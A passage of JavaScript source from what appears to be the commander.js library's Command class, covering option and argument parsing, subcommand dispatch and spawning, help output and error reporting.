   * Called the first time parse is called to save state and allow a restore before subsequent calls to parse.
   * Not usually called directly, but available for subclasses to save their custom state.
   *
   * This is called in a lazy way. Only commands used in parsing chain will have state saved.
   */
  saveStateBeforeParse() {
    this._savedState = {
      // name is stable if supplied by author, but may be unspecified for root command and deduced during parsing
      _name: this._name,
      // option values before parse have default values (including false for negated options)
      // shallow clones
      _optionValues: { ...this._optionValues },
      _optionValueSources: { ...this._optionValueSources },
    };
  }

  /**
   * Restore state before parse for calls after the first.
   * Not usually called directly, but available for subclasses to save their custom state.
   *
   * This is called in a lazy way. Only commands used in parsing chain will have state restored.
   */
  restoreStateBeforeParse() {
    if (this._storeOptionsAsProperties)
      throw new Error(`Can not call parse again when storeOptionsAsProperties is true.
- either make a new Command for each call to parse, or stop storing options as properties`);

    // clear state from _prepareUserArgs
    this._name = this._savedState._name;
    this._scriptPath = null;
    this.rawArgs = [];
    // clear state from setOptionValueWithSource
    this._optionValues = { ...this._savedState._optionValues };
    this._optionValueSources = { ...this._savedState._optionValueSources };
    // clear state from _parseCommand
    this.args = [];
    // clear state from _processArguments
    this.processedArgs = [];
  }

  /**
   * Throw if expected executable is missing. Add lots of help for author.
   *
   * @param {string} executableFile
   * @param {string} executableDir
   * @param {string} subcommandName
   */
  _checkForMissingExecutable(executableFile, executableDir, subcommandName) {
    if (fs.existsSync(executableFile)) return;

    const executableDirMessage = executableDir
      ? `searched for local subcommand relative to directory '${executableDir}'`
      : 'no directory for search for local subcommand, use .executableDir() to supply a custom directory';
    const executableMissing = `'${executableFile}' does not exist
 - if '${subcommandName}' is not meant to be an executable command, remove description parameter from '.command()' and use '.description()' instead
 - if the default executable name is not suitable, use the executableFile option to supply a custom name or path
 - ${executableDirMessage}`;
    throw new Error(executableMissing);
  }

  /**
   * Execute a sub-command executable.
   *
   * @private
   */

  _executeSubCommand(subcommand, args) {
    args = args.slice();
    let launchWithNode = false; // Use node for source targets so do not need to get permissions correct, and on Windows.
    const sourceExt = ['.js', '.ts', '.tsx', '.mjs', '.cjs'];

    function findFile(baseDir, baseName) {
      // Look for specified file
      const localBin = path.resolve(baseDir, baseName);
      if (fs.existsSync(localBin)) return localBin;

      // Stop looking if candidate already has an expected extension.
      if (sourceExt.includes(path.extname(baseName))) return undefined;

      // Try all the extensions.
      const foundExt = sourceExt.find((ext) =>
        fs.existsSync(`${localBin}${ext}`),
      );
      if (foundExt) return `${localBin}${foundExt}`;

      return undefined;
    }

    // Not checking for help first. Unlikely to have mandatory and executable, and can't robustly test for help flags in external command.
    this._checkForMissingMandatoryOptions();
    this._checkForConflictingOptions();

    // executableFile and executableDir might be full path, or just a name
    let executableFile =
      subcommand._executableFile || `${this._name}-${subcommand._name}`;
    let executableDir = this._executableDir || '';
    if (this._scriptPath) {
      let resolvedScriptPath; // resolve possible symlink for installed npm binary
      try {
        resolvedScriptPath = fs.realpathSync(this._scriptPath);
      } catch {
        resolvedScriptPath = this._scriptPath;
      }
      executableDir = path.resolve(
        path.dirname(resolvedScriptPath),
        executableDir,
      );
    }

    // Look for a local file in preference to a command in PATH.
    if (executableDir) {
      let localFile = findFile(executableDir, executableFile);

      // Legacy search using prefix of script name instead of command name
      if (!localFile && !subcommand._executableFile && this._scriptPath) {
        const legacyName = path.basename(
          this._scriptPath,
          path.extname(this._scriptPath),
        );
        if (legacyName !== this._name) {
          localFile = findFile(
            executableDir,
            `${legacyName}-${subcommand._name}`,
          );
        }
      }
      executableFile = localFile || executableFile;
    }

    launchWithNode = sourceExt.includes(path.extname(executableFile));

    let proc;
    if (process.platform !== 'win32') {
      if (launchWithNode) {
        args.unshift(executableFile);
        // add executable arguments to spawn
        args = incrementNodeInspectorPort(process.execArgv).concat(args);

        proc = childProcess.spawn(process.argv[0], args, { stdio: 'inherit' });
      } else {
        proc = childProcess.spawn(executableFile, args, { stdio: 'inherit' });
      }
    } else {
      this._checkForMissingExecutable(
        executableFile,
        executableDir,
        subcommand._name,
      );
      args.unshift(executableFile);
      // add executable arguments to spawn
      args = incrementNodeInspectorPort(process.execArgv).concat(args);
      proc = childProcess.spawn(process.execPath, args, { stdio: 'inherit' });
    }

    if (!proc.killed) {
      // testing mainly to avoid leak warnings during unit tests with mocked spawn
      const signals = ['SIGUSR1', 'SIGUSR2', 'SIGTERM', 'SIGINT', 'SIGHUP'];
      signals.forEach((signal) => {
        process.on(signal, () => {
          if (proc.killed === false && proc.exitCode === null) {
            // @ts-ignore because signals not typed to known strings
            proc.kill(signal);
          }
        });
      });
    }

    // By default terminate process when spawned process terminates.
    const exitCallback = this._exitCallback;
    proc.on('close', (code) => {
      code = code ?? 1; // code is null if spawned process terminated due to a signal
      if (!exitCallback) {
        process.exit(code);
      } else {
        exitCallback(
          new CommanderError(
            code,
            'commander.executeSubCommandAsync',
            '(close)',
          ),
        );
      }
    });
    proc.on('error', (err) => {
      // @ts-ignore: because err.code is an unknown property
      if (err.code === 'ENOENT') {
        this._checkForMissingExecutable(
          executableFile,
          executableDir,
          subcommand._name,
        );
        // @ts-ignore: because err.code is an unknown property
      } else if (err.code === 'EACCES') {
        throw new Error(`'${executableFile}' not executable`);
      }
      if (!exitCallback) {
        process.exit(1);
      } else {
        const wrappedError = new CommanderError(
          1,
          'commander.executeSubCommandAsync',
          '(error)',
        );
        wrappedError.nestedError = err;
        exitCallback(wrappedError);
      }
    });

    // Store the reference to the child process
    this.runningCommand = proc;
  }

  /**
   * @private
   */

  _dispatchSubcommand(commandName, operands, unknown) {
    const subCommand = this._findCommand(commandName);
    if (!subCommand) this.help({ error: true });

    subCommand._prepareForParse();
    let promiseChain;
    promiseChain = this._chainOrCallSubCommandHook(
      promiseChain,
      subCommand,
      'preSubcommand',
    );
    promiseChain = this._chainOrCall(promiseChain, () => {
      if (subCommand._executableHandler) {
        this._executeSubCommand(subCommand, operands.concat(unknown));
      } else {
        return subCommand._parseCommand(operands, unknown);
      }
    });
    return promiseChain;
  }

  /**
   * Invoke help directly if possible, or dispatch if necessary.
   * e.g. help foo
   *
   * @private
   */

  _dispatchHelpCommand(subcommandName) {
    if (!subcommandName) {
      this.help();
    }
    const subCommand = this._findCommand(subcommandName);
    if (subCommand && !subCommand._executableHandler) {
      subCommand.help();
    }

    // Fallback to parsing the help flag to invoke the help.
    return this._dispatchSubcommand(
      subcommandName,
      [],
      [this._getHelpOption()?.long ?? this._getHelpOption()?.short ?? '--help'],
    );
  }

  /**
   * Check this.args against expected this.registeredArguments.
   *
   * @private
   */

  _checkNumberOfArguments() {
    // too few
    this.registeredArguments.forEach((arg, i) => {
      if (arg.required && this.args[i] == null) {
        this.missingArgument(arg.name());
      }
    });
    // too many
    if (
      this.registeredArguments.length > 0 &&
      this.registeredArguments[this.registeredArguments.length - 1].variadic
    ) {
      return;
    }
    if (this.args.length > this.registeredArguments.length) {
      this._excessArguments(this.args);
    }
  }

  /**
   * Process this.args using this.registeredArguments and save as this.processedArgs!
   *
   * @private
   */

  _processArguments() {
    const myParseArg = (argument, value, previous) => {
      // Extra processing for nice error message on parsing failure.
      let parsedValue = value;
      if (value !== null && argument.parseArg) {
        const invalidValueMessage = `error: command-argument value '${value}' is invalid for argument '${argument.name()}'.`;
        parsedValue = this._callParseArg(
          argument,
          value,
          previous,
          invalidValueMessage,
        );
      }
      return parsedValue;
    };

    this._checkNumberOfArguments();

    const processedArgs = [];
    this.registeredArguments.forEach((declaredArg, index) => {
      let value = declaredArg.defaultValue;
      if (declaredArg.variadic) {
        // Collect together remaining arguments for passing together as an array.
        if (index < this.args.length) {
          value = this.args.slice(index);
          if (declaredArg.parseArg) {
            value = value.reduce((processed, v) => {
              return myParseArg(declaredArg, v, processed);
            }, declaredArg.defaultValue);
          }
        } else if (value === undefined) {
          value = [];
        }
      } else if (index < this.args.length) {
        value = this.args[index];
        if (declaredArg.parseArg) {
          value = myParseArg(declaredArg, value, declaredArg.defaultValue);
        }
      }
      processedArgs[index] = value;
    });
    this.processedArgs = processedArgs;
  }

  /**
   * Once we have a promise we chain, but call synchronously until then.
   *
   * @param {(Promise|undefined)} promise
   * @param {Function} fn
   * @return {(Promise|undefined)}
   * @private
   */

  _chainOrCall(promise, fn) {
    // thenable
    if (promise?.then && typeof promise.then === 'function') {
      // already have a promise, chain callback
      return promise.then(() => fn());
    }
    // callback might return a promise
    return fn();
  }

  /**
   *
   * @param {(Promise|undefined)} promise
   * @param {string} event
   * @return {(Promise|undefined)}
   * @private
   */

  _chainOrCallHooks(promise, event) {
    let result = promise;
    const hooks = [];
    this._getCommandAndAncestors()
      .reverse()
      .filter((cmd) => cmd._lifeCycleHooks[event] !== undefined)
      .forEach((hookedCommand) => {
        hookedCommand._lifeCycleHooks[event].forEach((callback) => {
          hooks.push({ hookedCommand, callback });
        });
      });
    if (event === 'postAction') {
      hooks.reverse();
    }

    hooks.forEach((hookDetail) => {
      result = this._chainOrCall(result, () => {
        return hookDetail.callback(hookDetail.hookedCommand, this);
      });
    });
    return result;
  }

  /**
   *
   * @param {(Promise|undefined)} promise
   * @param {Command} subCommand
   * @param {string} event
   * @return {(Promise|undefined)}
   * @private
   */

  _chainOrCallSubCommandHook(promise, subCommand, event) {
    let result = promise;
    if (this._lifeCycleHooks[event] !== undefined) {
      this._lifeCycleHooks[event].forEach((hook) => {
        result = this._chainOrCall(result, () => {
          return hook(this, subCommand);
        });
      });
    }
    return result;
  }

  /**
   * Process arguments in context of this command.
   * Returns action result, in case it is a promise.
   *
   * @private
   */

  _parseCommand(operands, unknown) {
    const parsed = this.parseOptions(unknown);
    this._parseOptionsEnv(); // after cli, so parseArg not called on both cli and env
    this._parseOptionsImplied();
    operands = operands.concat(parsed.operands);
    unknown = parsed.unknown;
    this.args = operands.concat(unknown);

    if (operands && this._findCommand(operands[0])) {
      return this._dispatchSubcommand(operands[0], operands.slice(1), unknown);
    }
    if (
      this._getHelpCommand() &&
      operands[0] === this._getHelpCommand().name()
    ) {
      return this._dispatchHelpCommand(operands[1]);
    }
    if (this._defaultCommandName) {
      this._outputHelpIfRequested(unknown); // Run the help for default command from parent rather than passing to default command
      return this._dispatchSubcommand(
        this._defaultCommandName,
        operands,
        unknown,
      );
    }
    if (
      this.commands.length &&
      this.args.length === 0 &&
      !this._actionHandler &&
      !this._defaultCommandName
    ) {
      // probably missing subcommand and no handler, user needs help (and exit)
      this.help({ error: true });
    }

    this._outputHelpIfRequested(parsed.unknown);
    this._checkForMissingMandatoryOptions();
    this._checkForConflictingOptions();

    // We do not always call this check to avoid masking a "better" error, like unknown command.
    const checkForUnknownOptions = () => {
      if (parsed.unknown.length > 0) {
        this.unknownOption(parsed.unknown[0]);
      }
    };

    const commandEvent = `command:${this.name()}`;
    if (this._actionHandler) {
      checkForUnknownOptions();
      this._processArguments();

      let promiseChain;
      promiseChain = this._chainOrCallHooks(promiseChain, 'preAction');
      promiseChain = this._chainOrCall(promiseChain, () =>
        this._actionHandler(this.processedArgs),
      );
      if (this.parent) {
        promiseChain = this._chainOrCall(promiseChain, () => {
          this.parent.emit(commandEvent, operands, unknown); // legacy
        });
      }
      promiseChain = this._chainOrCallHooks(promiseChain, 'postAction');
      return promiseChain;
    }
    if (this.parent?.listenerCount(commandEvent)) {
      checkForUnknownOptions();
      this._processArguments();
      this.parent.emit(commandEvent, operands, unknown); // legacy
    } else if (operands.length) {
      if (this._findCommand('*')) {
        // legacy default command
        return this._dispatchSubcommand('*', operands, unknown);
      }
      if (this.listenerCount('command:*')) {
        // skip option check, emit event for possible misspelling suggestion
        this.emit('command:*', operands, unknown);
      } else if (this.commands.length) {
        this.unknownCommand();
      } else {
        checkForUnknownOptions();
        this._processArguments();
      }
    } else if (this.commands.length) {
      checkForUnknownOptions();
      // This command has subcommands and nothing hooked up at this level, so display help (and exit).
      this.help({ error: true });
    } else {
      checkForUnknownOptions();
      this._processArguments();
      // fall through for caller to handle after calling .parse()
    }
  }

  /**
   * Find matching command.
   *
   * @private
   * @return {Command | undefined}
   */
  _findCommand(name) {
    if (!name) return undefined;
    return this.commands.find(
      (cmd) => cmd._name === name || cmd._aliases.includes(name),
    );
  }

  /**
   * Return an option matching `arg` if any.
   *
   * @param {string} arg
   * @return {Option}
   * @package
   */

  _findOption(arg) {
    return this.options.find((option) => option.is(arg));
  }

  /**
   * Display an error message if a mandatory option does not have a value.
   * Called after checking for help flags in leaf subcommand.
   *
   * @private
   */

  _checkForMissingMandatoryOptions() {
    // Walk up hierarchy so can call in subcommand after checking for displaying help.
    this._getCommandAndAncestors().forEach((cmd) => {
      cmd.options.forEach((anOption) => {
        if (
          anOption.mandatory &&
          cmd.getOptionValue(anOption.attributeName()) === undefined
        ) {
          cmd.missingMandatoryOptionValue(anOption);
        }
      });
    });
  }

  /**
   * Display an error message if conflicting options are used together in this.
   *
   * @private
   */
  _checkForConflictingLocalOptions() {
    const definedNonDefaultOptions = this.options.filter((option) => {
      const optionKey = option.attributeName();
      if (this.getOptionValue(optionKey) === undefined) {
        return false;
      }
      return this.getOptionValueSource(optionKey) !== 'default';
    });

    const optionsWithConflicting = definedNonDefaultOptions.filter(
      (option) => option.conflictsWith.length > 0,
    );

    optionsWithConflicting.forEach((option) => {
      const conflictingAndDefined = definedNonDefaultOptions.find((defined) =>
        option.conflictsWith.includes(defined.attributeName()),
      );
      if (conflictingAndDefined) {
        this._conflictingOption(option, conflictingAndDefined);
      }
    });
  }

  /**
   * Display an error message if conflicting options are used together.
   * Called after checking for help flags in leaf subcommand.
   *
   * @private
   */
  _checkForConflictingOptions() {
    // Walk up hierarchy so can call in subcommand after checking for displaying help.
    this._getCommandAndAncestors().forEach((cmd) => {
      cmd._checkForConflictingLocalOptions();
    });
  }

  /**
   * Parse options from `argv` removing known options,
   * and return argv split into operands and unknown arguments.
   *
   * Side effects: modifies command by storing options. Does not reset state if called again.
   *
   * Examples:
   *
   *     argv => operands, unknown
   *     --known kkk op => [op], []
   *     op --known kkk => [op], []
   *     sub --unknown uuu op => [sub], [--unknown uuu op]
   *     sub -- --unknown uuu op => [sub --unknown uuu op], []
   *
   * @param {string[]} args
   * @return {{operands: string[], unknown: string[]}}
   */

  parseOptions(args) {
    const operands = []; // operands, not options or values
    const unknown = []; // first unknown option and remaining unknown args
    let dest = operands;

    function maybeOption(arg) {
      return arg.length > 1 && arg[0] === '-';
    }

    const negativeNumberArg = (arg) => {
      // return false if not a negative number
      if (!/^-(\d+|\d*\.\d+)(e[+-]?\d+)?$/.test(arg)) return false;
      // negative number is ok unless digit used as an option in command hierarchy
      return !this._getCommandAndAncestors().some((cmd) =>
        cmd.options
          .map((opt) => opt.short)
          .some((short) => /^-\d$/.test(short)),
      );
    };

    // parse options
    let activeVariadicOption = null;
    let activeGroup = null; // working through group of short options, like -abc
    let i = 0;
    while (i < args.length || activeGroup) {
      const arg = activeGroup ?? args[i++];
      activeGroup = null;

      // literal
      if (arg === '--') {
        if (dest === unknown) dest.push(arg);
        dest.push(...args.slice(i));
        break;
      }

      if (
        activeVariadicOption &&
        (!maybeOption(arg) || negativeNumberArg(arg))
      ) {
        this.emit(`option:${activeVariadicOption.name()}`, arg);
        continue;
      }
      activeVariadicOption = null;

      if (maybeOption(arg)) {
        const option = this._findOption(arg);
        // recognised option, call listener to assign value with possible custom processing
        if (option) {
          if (option.required) {
            const value = args[i++];
            if (value === undefined) this.optionMissingArgument(option);
            this.emit(`option:${option.name()}`, value);
          } else if (option.optional) {
            let value = null;
            // historical behaviour is optional value is following arg unless an option
            if (
              i < args.length &&
              (!maybeOption(args[i]) || negativeNumberArg(args[i]))
            ) {
              value = args[i++];
            }
            this.emit(`option:${option.name()}`, value);
          } else {
            // boolean flag
            this.emit(`option:${option.name()}`);
          }
          activeVariadicOption = option.variadic ? option : null;
          continue;
        }
      }

      // Look for combo options following single dash, eat first one if known.
      if (arg.length > 2 && arg[0] === '-' && arg[1] !== '-') {
        const option = this._findOption(`-${arg[1]}`);
        if (option) {
          if (
            option.required ||
            (option.optional && this._combineFlagAndOptionalValue)
          ) {
            // option with value following in same argument
            this.emit(`option:${option.name()}`, arg.slice(2));
          } else {
            // boolean option
            this.emit(`option:${option.name()}`);
            // remove the processed option and keep processing group
            activeGroup = `-${arg.slice(2)}`;
          }
          continue;
        }
      }

      // Look for known long flag with value, like --foo=bar
      if (/^--[^=]+=/.test(arg)) {
        const index = arg.indexOf('=');
        const option = this._findOption(arg.slice(0, index));
        if (option && (option.required || option.optional)) {
          this.emit(`option:${option.name()}`, arg.slice(index + 1));
          continue;
        }
      }

      // Not a recognised option by this command.
      // Might be a command-argument, or subcommand option, or unknown option, or help command or option.

      // An unknown option means further arguments also classified as unknown so can be reprocessed by subcommands.
      // A negative number in a leaf command is not an unknown option.
      if (
        dest === operands &&
        maybeOption(arg) &&
        !(this.commands.length === 0 && negativeNumberArg(arg))
      ) {
        dest = unknown;
      }

      // If using positionalOptions, stop processing our options at subcommand.
      if (
        (this._enablePositionalOptions || this._passThroughOptions) &&
        operands.length === 0 &&
        unknown.length === 0
      ) {
        if (this._findCommand(arg)) {
          operands.push(arg);
          unknown.push(...args.slice(i));
          break;
        } else if (
          this._getHelpCommand() &&
          arg === this._getHelpCommand().name()
        ) {
          operands.push(arg, ...args.slice(i));
          break;
        } else if (this._defaultCommandName) {
          unknown.push(arg, ...args.slice(i));
          break;
        }
      }

      // If using passThroughOptions, stop processing options at first command-argument.
      if (this._passThroughOptions) {
        dest.push(arg, ...args.slice(i));
        break;
      }

      // add arg
      dest.push(arg);
    }

    return { operands, unknown };
  }

  /**
   * Return an object containing local option values as key-value pairs.
   *
   * @return {object}
   */
  opts() {
    if (this._storeOptionsAsProperties) {
      // Preserve original behaviour so backwards compatible when still using properties
      const result = {};
      const len = this.options.length;

      for (let i = 0; i < len; i++) {
        const key = this.options[i].attributeName();
        result[key] =
          key === this._versionOptionName ? this._version : this[key];
      }
      return result;
    }

    return this._optionValues;
  }

  /**
   * Return an object containing merged local and global option values as key-value pairs.
   *
   * @return {object}
   */
  optsWithGlobals() {
    // globals overwrite locals
    return this._getCommandAndAncestors().reduce(
      (combinedOptions, cmd) => Object.assign(combinedOptions, cmd.opts()),
      {},
    );
  }

  /**
   * Display error message and exit (or call exitOverride).
   *
   * @param {string} message
   * @param {object} [errorOptions]
   * @param {string} [errorOptions.code] - an id string representing the error
   * @param {number} [errorOptions.exitCode] - used with process.exit
   */
  error(message, errorOptions) {
    // output handling
    this._outputConfiguration.outputError(
      `${message}\n`,
      this._outputConfiguration.writeErr,
    );
    if (typeof this._showHelpAfterError === 'string') {
      this._outputConfiguration.writeErr(`${this._showHelpAfterError}\n`);
    } else if (this._showHelpAfterError) {
      this._outputConfiguration.writeErr('\n');
      this.outputHelp({ error: true });
    }

    // exit handling
    const config = errorOptions || {};
    const exitCode = config.exitCode || 1;
    const code = config.code || 'commander.error';
    this._exit(exitCode, code, message);
  }

  /**
   * Apply any option related environment variables, if option does
   * not have a value from cli or client code.
   *
   * @private
   */
  _parseOptionsEnv() {
    this.options.forEach((option) => {
      if (option.envVar && option.envVar in process.env) {
        const optionKey = option.attributeName();
        // Priority check. Do not overwrite cli or options from unknown source (client-code).
        if (
          this.getOptionValue(optionKey) === undefined ||
          ['default', 'config', 'env'].includes(
            this.getOptionValueSource(optionKey),
          )
        ) {
          if (option.required || option.optional) {
            // option can take a value
            // keep very simple, optional always takes value
            this.emit(`optionEnv:${option.name()}`, process.env[option.envVar]);
          } else {
            // boolean
            // keep very simple, only care that envVar defined and not the value
            this.emit(`optionEnv:${option.name()}`);
          }
        }
      }
    });
  }

  /**
   * Apply any implied option values, if option is undefined or default value.
   *
   * @private
   */
  _parseOptionsImplied() {
    const dualHelper = new DualOptions(this.options);
    const hasCustomOptionValue = (optionKey) => {
      return (
        this.getOptionValue(optionKey) !== undefined &&
        !['default', 'implied'].includes(this.getOptionValueSource(optionKey))
      );
    };
    this.options
      .filter(
        (option) =>
          option.implied !== undefined &&
          hasCustomOptionValue(option.attributeName()) &&
          dualHelper.valueFromOption(
            this.getOptionValue(option.attributeName()),
            option,
          ),
      )
      .forEach((option) => {
        Object.keys(option.implied)
          .filter((impliedKey) => !hasCustomOptionValue(impliedKey))
          .forEach((impliedKey) => {
            this.setOptionValueWithSource(
              impliedKey,
              option.implied[impliedKey],
              'implied',
            );
          });
      });
  }

  /**
   * Argument `name` is missing.
   *
   * @param {string} name
   * @private
   */

  missingArgument(name) {
    const message = `error: missing required argument '${name}'`;
    this.error(message, { code: 'commander.missingArgument' });
  }

  /**
   * `Option` is missing an argument.
   *
   * @param {Option} option
   * @private
   */

  optionMissingArgument(option) {
    const message = `error: option '${option.flags}' argument missing`;
    this.error(message, { code: 'commander.optionMissingArgument' });
  }

  /**
   * `Option` does not have a value, and is a mandatory option.
   *
   * @param {Option} option
   * @private
   */

  missingMandatoryOptionValue(option) {
    const message = `error: required option '${option.flags}' not specified`;
    this.error(message, { code: 'commander.missingMandatoryOptionValue' });
  }

  /**
   * `Option` conflicts with another option.
   *
   * @param {Option} option
   * @param {Option} conflictingOption
   * @private
   */
  _conflictingOption(option, conflictingOption) {
    // The calling code does not know whether a negated option is the source of the
    // value, so do some work to take an educated guess.
    const findBestOptionFromValue = (option) => {
      const optionKey = option.attributeName();
      const optionValue = this.getOptionValue(optionKey);
      const negativeOption = this.options.find(
        (target) => target.negate && optionKey === target.attributeName(),
      );
      const positiveOption = this.options.find(
        (target) => !target.negate && optionKey === target.attributeName(),
      );
      if (
        negativeOption &&
        ((negativeOption.presetArg === undefined && optionValue === false) ||
          (negativeOption.presetArg !== undefined &&
            optionValue === negativeOption.presetArg))
      ) {
        return negativeOption;
      }
      return positiveOption || option;
    };

    const getErrorMessage = (option) => {
      const bestOption = findBestOptionFromValue(option);
      const optionKey = bestOption.attributeName();
      const source = this.getOptionValueSource(optionKey);
      if (source === 'env') {
        return `environment variable '${bestOption.envVar}'`;
      }
      return `option '${bestOption.flags}'`;
    };

    const message = `error: ${getErrorMessage(option)} cannot be used with ${getErrorMessage(conflictingOption)}`;
    this.error(message, { code: 'commander.conflictingOption' });
  }

  /**
   * Unknown option `flag`.
   *
   * @param {string} flag
   * @private
   */

  unknownOption(flag) {
    if (this._allowUnknownOption) return;
    let suggestion = '';

    if (flag.startsWith('--') && this._showSuggestionAfterError) {
      // Looping to pick up the global options too
      let candidateFlags = [];
      // eslint-disable-next-line @typescript-eslint/no-this-alias
      let command = this;
      do {
        const moreFlags = command
          .createHelp()
          .visibleOptions(command)
          .filter((option) => option.long)
          .map((option) => option.long);
        candidateFlags = candidateFlags.concat(moreFlags);
        command = command.parent;
      } while (command && !command._enablePositionalOptions);
      suggestion = suggestSimilar(flag, candidateFlags);
    }

    const message = `error: unknown option '${flag}'${suggestion}`;
    this.error(message, { code: 'commander.unknownOption' });
  }

  /**
   * Excess arguments, more than expected.
   *
   * @param {string[]} receivedArgs
   * @private
   */

  _excessArguments(receivedArgs) {
    if (this._allowExcessArguments) return;

    const expected = this.registeredArguments.length;
    const s = expected === 1 ? '' : 's';
    const forSubcommand = this.parent ? ` for '${this.name()}'` : '';
    const message = `error: too many arguments${forSubcommand}. Expected ${expected} argument${s} but got ${receivedArgs.length}.`;
    this.error(message, { code: 'commander.excessArguments' });
  }

  /**
   * Unknown command.
   *
   * @private
   */

  unknownCommand() {
    const unknownName = this.args[0];
    let suggestion = '';

    if (this._showSuggestionAfterError) {
      const candidateNames = [];
      this.createHelp()
        .visibleCommands(this)
        .forEach((command) => {
          candidateNames.push(command.name());
          // just visible alias
          if (command.alias()) candidateNames.push(command.alias());
        });
      suggestion = suggestSimilar(unknownName, candidateNames);
    }

    const message = `error: unknown command '${unknownName}'${suggestion}`;
    this.error(message, { code: 'commander.unknownCommand' });
  }

  /**
   * Get or set the program version.
   *
   * This method auto-registers the "-V, --version" option which will print the version number.
   *
   * You can optionally supply the flags and description to override the defaults.
   *
   * @param {string} [str]
   * @param {string} [flags]
   * @param {string} [description]
   * @return {(this | string | undefined)} `this` command for chaining, or version string if no arguments
   */

  version(str, flags, description) {
    if (str === undefined) return this._version;
    this._version = str;
    flags = flags || '-V, --version';
    description = description || 'output the version number';
    const versionOption = this.createOption(flags, description);
    this._versionOptionName = versionOption.attributeName();
    this._registerOption(versionOption);

    this.on('option:' + versionOption.name(), () => {
      this._outputConfiguration.writeOut(`${str}\n`);
      this._exit(0, 'commander.version', str);
    });
    return this;
  }

  /**
   * Set the description.
   *
   * @param {string} [str]
   * @param {object} [argsDescription]
   * @return {(string|Command)}
   */
  description(str, argsDescription) {
    if (str === undefined && argsDescription === undefined)
      return this._description;
    this._description = str;
    if (argsDescription) {
      this._argsDescription = argsDescription;
    }
    return this;
  }

  /**
   * Set the summary. Used when listed as subcommand of parent.
   *
   * @param {string} [str]
   * @return {(string|Command)}
   */
  summary(str) {
    if (str === undefined) return this._summary;
    this._summary = str;
    return this;
  }

  /**
   * Set an alias for the command.
   *
   * You may call more than once to add multiple aliases. Only the first alias is shown in the auto-generated help.
   *
   * @param {string} [alias]
   * @return {(string|Command)}
   */

  alias(alias) {
    if (alias === undefined) return this._aliases[0]; // just return first, for backwards compatibility

    /** @type {Command} */
    // eslint-disable-next-line @typescript-eslint/no-this-alias
    let command = this;
    if (
      this.commands.length !== 0 &&
      this.commands[this.commands.length - 1]._executableHandler
    ) {
      // assume adding alias for last added executable subcommand, rather than this
      command = this.commands[this.commands.length - 1];
    }

    if (alias === command._name)
      throw new Error("Command alias can't be the same as its name");
    const matchingCommand = this.parent?._findCommand(alias);
    if (matchingCommand) {
      // c.f. _registerCommand
      const existingCmd = [matchingCommand.name()]
        .concat(matchingCommand.aliases())
        .join('|');
      throw new Error(
        `cannot add alias '${alias}' to command '${this.name()}' as already have command '${existingCmd}'`,
      );
    }

    command._aliases.push(alias);
    return this;
  }

  /**
   * Set aliases for the command.
   *
   * Only the first alias is shown in the auto-generated help.
   *
   * @param {string[]} [aliases]
   * @return {(string[]|Command)}
   */

  aliases(aliases) {
    // Getter for the array of aliases is the main reason for having aliases() in addition to alias().
    if (aliases === undefined) return this._aliases;

    aliases.forEach((alias) => this.alias(alias));
    return this;
  }

  /**
   * Set / get the command usage `str`.
   *
   * @param {string} [str]
   * @return {(string|Command)}
   */

  usage(str) {
    if (str === undefined) {
      if (this._usage) return this._usage;

      const args = this.registeredArguments.map((arg) => {
        return humanReadableArgName(arg);
      });
      return []
        .concat(
          this.options.length || this._helpOption !== null ? '[options]' : [],
          this.commands.length ? '[command]' : [],
          this.registeredArguments.length ? args : [],
        )
        .join(' ');
    }

    this._usage = str;
    return this;
  }

  /**
   * Get or set the name of the command.
   *
   * @param {string} [str]
   * @return {(string|Command)}
   */

  name(str) {
    if (str === undefined) return this._name;
    this._name = str;
    return this;
  }

  /**
   * Set/get the help group heading for this subcommand in parent command's help.
   *
   * @param {string} [heading]
   * @return {Command | string}
   */

  helpGroup(heading) {
    if (heading === undefined) return this._helpGroupHeading ?? '';
    this._helpGroupHeading = heading;
    return this;
  }

  /**
   * Set/get the default help group heading for subcommands added to this command.
   * (This does not override a group set directly on the subcommand using .helpGroup().)
   *
   * @example
   * program.commandsGroup('Development Commands:);
   * program.command('watch')...
   * program.command('lint')...
   * ...
   *
   * @param {string} [heading]
   * @returns {Command | string}
   */
  commandsGroup(heading) {
    if (heading === undefined) return this._defaultCommandGroup ?? '';
    this._defaultCommandGroup = heading;
    return this;
  }

  /**
   * Set/get the default help group heading for options added to this command.
   * (This does not override a group set directly on the option using .helpGroup().)
   *
   * @example
   * program
   *   .optionsGroup('Development Options:')
   *   .option('-d, --debug', 'output extra debugging')
   *   .option('-p, --profile', 'output profiling information')
   *
   * @param {string} [heading]
   * @returns {Command | string}
   */
  optionsGroup(heading) {
    if (heading === undefined) return this._defaultOptionGroup ?? '';
    this._defaultOptionGroup = heading;
    return this;
  }

  /**
   * @param {Option} option
   * @private
   */
  _initOptionGroup(option) {
    if (this._defaultOptionGroup && !option.helpGroupHeading)
      option.helpGroup(this._defaultOptionGroup);
  }

  /**
   * @param {Command} cmd
   * @private
   */
  _initCommandGroup(cmd) {
    if (this._defaultCommandGroup && !cmd.helpGroup())
      cmd.helpGroup(this._defaultCommandGroup);
  }

  /**
   * Set the name of the command from script filename, such as process.argv[1],
   * or require.main.filename, or __filename.
   *
   * (Used internally and public although not documented in README.)
   *
   * @example
   * program.nameFromFilename(require.main.filename);
   *
   * @param {string} filename
   * @return {Command}
   */

  nameFromFilename(filename) {
    this._name = path.basename(filename, path.extname(filename));

    return this;
  }

  /**
   * Get or set the directory for searching for executable subcommands of this command.
   *
   * @example
   * program.executableDir(__dirname);
   * // or
   * program.executableDir('subcommands');
   *
   * @param {string} [path]
   * @return {(string|null|Command)}
   */

  executableDir(path) {
    if (path === undefined) return this._executableDir;
    this._executableDir = path;
    return this;
  }

  /**
   * Return program help documentation.
   *
   * @param {{ error: boolean }} [contextOptions] - pass {error:true} to wrap for stderr instead of stdout
   * @return {string}
   */

  helpInformation(contextOptions) {
    const helper = this.createHelp();
    const context = this._getOutputContext(contextOptions);
    helper.prepareContext({
      error: context.error,
      helpWidth: context.helpWidth,
      outputHasColors: context.hasColors,
    });
    const text = helper.formatHelp(this, helper);
    if (context.hasColors) return text;
    return this._outputConfiguration.stripColor(text);
  }

  /**
   * @typedef HelpContext
   * @type {object}
   * @property {boolean} error
   * @property {number} helpWidth
   * @property {boolean} hasColors
   * @property {function} write - includes stripColor if needed
   *
   * @returns {HelpContext}
   * @private
   */

  _getOutputContext(contextOptions) {
    contextOptions = contextOptions || {};
    const error = !!contextOptions.error;
    let baseWrite;
    let hasColors;
    let helpWidth;
    if (error) {
      baseWrite = (str) => this._outputConfiguration.writeErr(str);
      hasColors = this._outputConfiguration.getErrHasColors();
